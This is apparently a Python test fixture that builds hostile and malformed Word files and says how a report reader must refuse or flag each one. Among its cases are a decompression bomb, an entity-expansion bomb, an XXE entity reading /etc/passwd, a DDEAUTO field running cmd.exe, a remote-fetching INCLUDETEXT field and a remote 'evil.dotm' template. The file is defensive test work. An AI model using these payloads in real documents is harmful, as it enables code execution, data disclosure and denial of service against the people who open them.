"""Word reports that nobody should have to open, derived from the sample's, each with what it must get."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from tests.support.word_edits import DOCUMENT, VALUES, members, repacked, sample_report

_MAIN = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SETTINGS_RELS = "word/_rels/settings.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A file, and what must come of reading it.

    Attributes:
        make: Makes its bytes.
        refused: The message that refuses it, or None where it is read.
        flagged: The findings it gives, where it is read.
        figures: How many marked figures are found, where it is read; None for any number.
    """

    make: Callable[[], bytes]
    refused: str | None = None
    flagged: tuple[str, ...] = ()
    figures: int | None = 19


@cache
def parts() -> dict[str, bytes]:
    """Give the parts of the sample's report."""
    return members(sample_report())


def with_part(name: str, content: bytes) -> bytes:
    """Put one part in another's place, or beside the others."""
    return repacked({**parts(), name: content})


def without_part(name: str) -> bytes:
    """Leave a part out."""
    return repacked({key: value for key, value in parts().items() if key != name})


def body(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """Change the bytes of the document part."""
    return lambda: with_part(DOCUMENT, change(parts()[DOCUMENT]))


def before_end(text: str) -> Callable[[], bytes]:
    """Put elements behind the last paragraph."""
    return body(lambda content: content.replace(b"<w:sectPr", text.encode() + b"<w:sectPr", 1))


def doubled(name: str, other: bytes) -> bytes:
    """Give a zip file with two members of one name."""
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        warnings.simplefilter("ignore")
        for key, content in parts().items():
            package.writestr(key, content)
        package.writestr(name, other)
    return target.getvalue()


def truncated() -> bytes:
    """Cut the file in its middle."""
    return sample_report()[: len(sample_report()) // 2]


def wrong_checksum() -> bytes:
    """Flip a bit inside the packed document part."""
    source = bytearray(sample_report())
    with zipfile.ZipFile(io.BytesIO(sample_report())) as package:
        offset = package.getinfo(DOCUMENT).header_offset
    name, extra = struct.unpack("<HH", source[offset + 26 : offset + 30])
    source[offset + 30 + name + extra + 200] ^= 1
    return bytes(source)


def paragraph(inside: str) -> str:
    """Give a paragraph."""
    return f"<w:p>{inside}</w:p>"


def run(text: str) -> str:
    """Give a run."""
    return f"<w:r><w:t>{text}</w:t></w:r>"


def varied(length: int) -> str:
    """Give so many characters that do not pack into nothing."""
    return "".join(chr(0x4E00 + number * 7919 % 9973) for number in range(length))


def field(instruction: str) -> str:
    """Give a paragraph with a field that shows 1."""
    kinds = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return paragraph(f"{kinds[0]}<w:r><w:instrText>{instruction}</w:instrText></w:r>{kinds[1]}{run('见附')}{kinds[2]}")


def outside_template() -> bytes:
    """Attach a template on another machine."""
    target = r"\\elsewhere\share\evil.dotm"
    return with_part(
        _SETTINGS_RELS,
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
        f' Type="{_OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'.encode(),
    )


def bomb() -> bytes:
    """Give a document part of 300 MiB of one character."""
    head, tail = f"<w:document {_MAIN}><w:body><w:p><w:r><w:t>".encode(), b"</w:t></w:r></w:p></w:body></w:document>"
    return with_part(DOCUMENT, head + b"9" * (300 << 20) + tail)


def entities() -> bytes:
    """Give a document part that unfolds into a thousand million characters."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "9">{levels}]>'
    return with_part(
        DOCUMENT, f"{head}<w:document {_MAIN}><w:body>{paragraph(run('&e9;'))}</w:body></w:document>".encode()
    )


def entity_outside() -> bytes:
    """Ask for a file of the machine."""
    head = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return with_part(DOCUMENT, f"{head}<w:document {_MAIN}><w:body/></w:document>".encode())


def in_utf_16() -> bytes:
    """Write the document part in UTF-16."""
    text = parts()[DOCUMENT].decode().replace("UTF-8", "UTF-16", 1)
    return with_part(DOCUMENT, text.encode("utf-16"))


def without_marks(*names: bytes) -> Callable[[], bytes]:
    """Rename elements so that nobody knows them."""

    def change(content: bytes) -> bytes:
        for name in names:
            content = content.replace(b"w:" + name, b"w:no" + name)
        return content

    return body(change)


HOSTILE = {
    "empty": Hostile(lambda: b"", "live.file.empty"),
    "text": Hostile("报告".encode, "live.file.text_file"),
    "pdf": Hostile(lambda: b"%PDF-1.7\0\0", "live.file.not_a_report"),
    "old Word": Hostile(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "live.file.old_format"),
    "password": Hostile(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "live.file.encrypted"
    ),
    "truncated": Hostile(truncated, "live.file.damaged"),
    "wrong checksum": Hostile(wrong_checksum, "live.file.damaged"),
    "no members": Hostile(lambda: repacked({}), "live.file.not_a_report"),
    "no document": Hostile(lambda: without_part(DOCUMENT), "live.file.no_document"),
    "a workbook": Hostile(lambda: repacked({"xl/workbook.xml": b"<workbook/>"}), "live.file.other_kind"),
    "OpenDocument": Hostile(lambda: repacked({"content.xml": b"<x/>"}), "live.file.opendocument"),
    "bomb": Hostile(bomb, "live.file.too_large"),
    "entities": Hostile(entities, "live.file.damaged"),
    "entity outside": Hostile(entity_outside, "live.file.damaged"),
    "cut-off part": Hostile(body(lambda content: content[:-100]), "live.file.damaged"),
    "bad UTF-8": Hostile(body(lambda content: content.replace("学习".encode(), b"\xff\xfe", 1)), "live.file.damaged"),
    "UTF-16": Hostile(in_utf_16),
    "document twice": Hostile(
        lambda: doubled(DOCUMENT, parts()[DOCUMENT].replace(b">248<", b">284<")), None, ("file.duplicate_part",)
    ),
    "attached template": Hostile(outside_template, None, ("live.odd.outside_template",)),
    "DDEAUTO": Hostile(
        before_end(field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), None, ("live.odd.field",)
    ),
    "INCLUDETEXT": Hostile(before_end(field('INCLUDETEXT "http://elsewhere/x.docx"')), None, ("live.odd.field",)),
    "a page number": Hostile(before_end(field(" PAGE "))),
    "zero-width in a number": Hostile(
        body(lambda content: content.replace(b">248<", ">2\u200b48<".encode())), None, ("live.odd.hidden_character",)
    ),
    "full-width digits": Hostile(
        body(lambda content: content.replace(b">248<", ">２４８<".encode())), None, ("live.odd.full_width",)
    ),
    "override around a number": Hostile(
        body(lambda content: content.replace(b">248<", ">\u202e842\u202c<".encode())),
        None,
        ("live.odd.hidden_character",),
    ),
    "altChunk": Hostile(before_end('<w:altChunk w:foo="1"/>'), None, ("live.odd.foreign_contents",)),
    "OLE object": Hostile(before_end(paragraph("<w:r><w:object/></w:r>")), None, ("live.odd.foreign_contents",)),
    "no controls": Hostile(without_marks(b"sdt>", b"sdt ")),
    "no controls or bookmarks": Hostile(without_marks(b"sdt", b"bookmark"), figures=0),
    "values gone": Hostile(lambda: without_part(VALUES)),
    "values broken": Hostile(lambda: with_part(VALUES, parts()[VALUES][:-9])),
    "baseline broken": Hostile(lambda: with_part("customXml/item2.xml", b"<baseline")),
    "baseline of nonsense": Hostile(
        lambda: with_part("customXml/item2.xml", b'<baseline xmlns="urn:xltools:baseline:1"><figure n="x"/></baseline>')
    ),
    "400 nested tables": Hostile(
        before_end("<w:tbl><w:tr><w:tc>" * 400 + paragraph(run("深")) + "</w:tc></w:tr></w:tbl>" * 400)
    ),
    "100,000 nested elements": Hostile(before_end("<w:tbl>" * 100_000 + "</w:tbl>" * 100_000)),
    "5 MB paragraph": Hostile(before_end(paragraph(run(varied(1_700_000))))),
    "100,000 paragraphs": Hostile(before_end("".join(paragraph(run(f"{sign}走访群众")) for sign in varied(100_000)))),
    "200,000 runs": Hostile(before_end(paragraph("".join(map(run, varied(200_000)))))),
    "20,000 numbers": Hostile(before_end(paragraph(run("".join(f"走访{n * 7919 % 9973}户，" for n in range(20_000)))))),
    "a bookmark without an end": Hostile(
        before_end(paragraph('<w:bookmarkStart w:id="990" w:name="_xf_F1_value_1"/>'))
    ),
    "ends without beginnings": Hostile(before_end(paragraph('<w:bookmarkEnd w:id="991"/>'))),
    "a tag of nonsense": Hostile(
        before_end(
            paragraph(f'<w:sdt><w:sdtPr><w:tag w:val="fig:"/></w:sdtPr><w:sdtContent>{run("5")}</w:sdtContent></w:sdt>')
        ),
        figures=20,
    ),
    "a shape stored twice": Hostile(
        before_end(
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice>'
            f"{paragraph(run('形'))}</mc:Choice><mc:Fallback>{paragraph(run('形'))}</mc:Fallback></mc:AlternateContent>"
        )
    ),
}
